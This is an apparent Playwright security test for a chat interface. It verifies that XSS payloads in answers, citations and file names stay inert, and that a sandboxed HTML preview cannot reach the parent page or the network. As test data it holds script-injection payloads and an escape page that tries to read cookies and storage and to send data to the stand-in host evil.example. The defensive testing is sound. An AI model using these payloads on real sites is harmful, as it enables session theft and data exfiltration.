import type { Page } from '@playwright/test'
import { HOSTILE_CITATIONS, HOSTILE_FILE_NAMES, XSS_CORPUS } from '@/components/chat/markdown/xss-corpus'
import { keepTurns } from './kept-turns'
import { answered, answers, ask, DESK, openNewChat } from './ui-page'
import { expect, test } from './ui-scripted'

/** So many payloads stand in one answer; the page keeps only those near the screen. */
const IN_ONE_ANSWER = 4
const SCROLL_PX = 500
const MOST_SCROLLS = 400

/** Watches for everything that a hostile text could get done. */
async function watch(page: Page, origin: string): Promise<string[]> {
  const found: string[] = []
  page.on('request', (request) => {
    const url = new URL(request.url())
    if (url.protocol.startsWith('http') && url.origin !== origin) found.push(`request ${url.href}`)
  })
  page.on('dialog', (dialog) => {
    found.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('popup', () => found.push('popup'))
  page.on('framenavigated', (frame) => {
    if (!frame.url().startsWith(origin) && frame.url() !== 'about:blank') found.push(`navigated ${frame.url()}`)
  })
  await page.exposeFunction('noteFault', (fault: string) => found.push(fault))
  await page.addInitScript(() => {
    const note = (window as unknown as { noteFault: (fault: string) => void }).noteFault
    Object.assign(window, { pwned: () => note('pwned') })
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sourceFile }) =>
      note(`policy ${violatedDirective} ${blockedURI} ${sourceFile}`),
    )
  })
  return found
}

/** Scrolls from the end of the chat to its start, so that each turn was on screen. */
async function readAll(page: Page, firstWords: string): Promise<void> {
  const log = page.getByRole('main')
  await log.hover()
  const first = page.getByRole('article').getByText(firstWords)
  for (let scrolls = 0; scrolls < MOST_SCROLLS; scrolls++) {
    if (await first.isVisible()) return
    await page.mouse.wheel(0, -SCROLL_PX)
    await page.waitForTimeout(20)
  }
  throw new Error('The start of the chat was not reached.')
}

test('hostile words in answers, sources and file names do nothing', DESK, async ({ page, scripted, baseURL }) => {
  const found = await watch(page, baseURL ?? '')
  scripted.upstream.next({ text: XSS_CORPUS.join('\n\n'), tokensPerSecond: 0 })
  await openNewChat(page)
  await ask(page, 'The very first question')
  await answered(page)

  const groups = Array.from({ length: Math.ceil(XSS_CORPUS.length / IN_ONE_ANSWER) }, (_, at) =>
    XSS_CORPUS.slice(at * IN_ONE_ANSWER, (at + 1) * IN_ONE_ANSWER),
  )
  const attachments = HOSTILE_FILE_NAMES.map((name, at) => ({
    id: `file-${at}`,
    kind: at === 0 ? ('image' as const) : ('document' as const),
    name,
    mediaType: 'text/html',
    size: 10,
    hash: at === 1 ? 'page' : 'gone',
  }))
  const files = [{ hash: 'page', base64: btoa('<script>pwned()</script>'), mediaType: 'text/html' }]
  await keepTurns(page, [
    ...groups.flatMap((payloads) => [
      { role: 'user' as const, text: payloads.join('\n') },
      {
        role: 'assistant' as const,
        text: `${payloads.join('\n\n')}\n\nSo [REF]0[/REF] [REF]1[/REF] [REF]2[/REF]`,
        citations: HOSTILE_CITATIONS,
      },
    ]),
    { role: 'user' as const, text: 'Files', attachments, files },
    { role: 'assistant' as const, text: 'Done [REF]1[/REF].', citations: HOSTILE_CITATIONS },
  ])

  const last = answers(page).last()
  await last
    .getByRole('button', { name: /^Source 2: "><svg onload/ })
    .first()
    .click()
  const sources = page.getByRole('dialog', { name: 'Sources' })
  await expect(sources.getByText('<img src=x onerror=pwned()>')).toBeVisible()
  await expect(sources.getByRole('link')).toHaveCount(1)
  await expect(sources.getByRole('link', { name: 'An honest one' })).toHaveAttribute('rel', 'noopener noreferrer')
  await page.keyboard.press('Escape')
  await expect(page.getByText('This file is not on this device any more.').first()).toBeVisible()
  await expect(page.getByText('invoicefdp.exe')).toBeVisible()

  await readAll(page, 'The very first question')
  expect(found).toEqual([])
})

const ESCAPES = `<!doctype html>
<title>Escapes</title>
<p id="out">running</p>
<script>
const report = []
const attempt = (name, run) => { try { run(); report.push('did ' + name) } catch { report.push('no ' + name) } }
attempt('parent', () => parent.document.title)
attempt('top', () => { top.location = 'https://evil.example/' })
attempt('cookie', () => document.cookie)
attempt('storage', () => localStorage.setItem('a', 'b'))
attempt('session', () => sessionStorage.length)
attempt('database', () => { indexedDB.open('lagoon') })
try { window.open('https://evil.example/') } catch {}
try { alert('hello') } catch {}
const image = new Image(); image.src = 'https://evil.example/a.png'; document.body.append(image)
const frame = document.createElement('iframe'); frame.src = 'https://evil.example/'; document.body.append(frame)
const style = document.createElement('style'); style.textContent = '@import "https://evil.example/a.css"'; document.head.append(style)
const link = document.createElement('link'); link.rel = 'preload'; link.as = 'image'; link.href = 'https://evil.example/b.png'; document.head.append(link)
try { navigator.sendBeacon('https://evil.example/') } catch {}
try { new WebSocket('wss://evil.example/') } catch { report.push('no socket') }
fetch('https://evil.example/').then(() => report.push('did fetch'), () => report.push('no fetch'))
  .then(() => fetch('/api/v1/models')).then(() => report.push('did own fetch'), () => report.push('no own fetch'))
  .then(() => { document.querySelector('#out').textContent = report.join(', ') })
</script>`

test(
  'a preview runs, and reaches neither the page nor the network',
  DESK,
  async ({ page, scripted, baseURL, pageFaults }) => {
    const outside: string[] = []
    page.on('request', (request) => {
      const url = new URL(request.url())
      if (url.protocol.startsWith('http') && url.origin !== baseURL && !request.failure()) outside.push(url.href)
    })
    page.on('popup', () => outside.push('popup'))
    page.on('dialog', (dialog) => {
      outside.push('dialog')
      void dialog.dismiss()
    })
    const sent: string[] = []
    page.on('requestfinished', (request) => {
      if (request.url().includes('evil.example')) sent.push(request.url())
    })
    scripted.upstream.next({ text: `Look:\n\n\`\`\`html\n${ESCAPES}\n\`\`\`\n\nAnd that is it.`, tokensPerSecond: 0 })
    await openNewChat(page)
    await ask(page, 'Write a page')
    await answered(page)
    await page.getByRole('button', { name: 'Preview' }).click()
    const frame = page.frameLocator('iframe[title="Preview of the code"]')
    await expect(frame.locator('#out')).toContainText('fetch')
    const report = await frame.locator('#out').innerText()
    expect(report).not.toContain('did ')
    expect(report).toContain('no own fetch')
    expect(new URL(page.url()).origin).toBe(baseURL)
    expect(outside.filter((what) => !what.startsWith('https://evil'))).toEqual([])
    expect(sent).toEqual([])

    // Where it would carry something off by going somewhere else, it goes nowhere.
    await frame.locator('body').evaluate(() => {
      location.href = 'https://evil.example/?secret'
    })
    await page.waitForTimeout(500)
    expect(page.frames().some((one) => one.url().includes('evil.example'))).toBe(false)
    expect(sent).toEqual([])
    // The browser says what it kept the frame from: that is what was asked for here.
    pageFaults.length = 0
  },
)
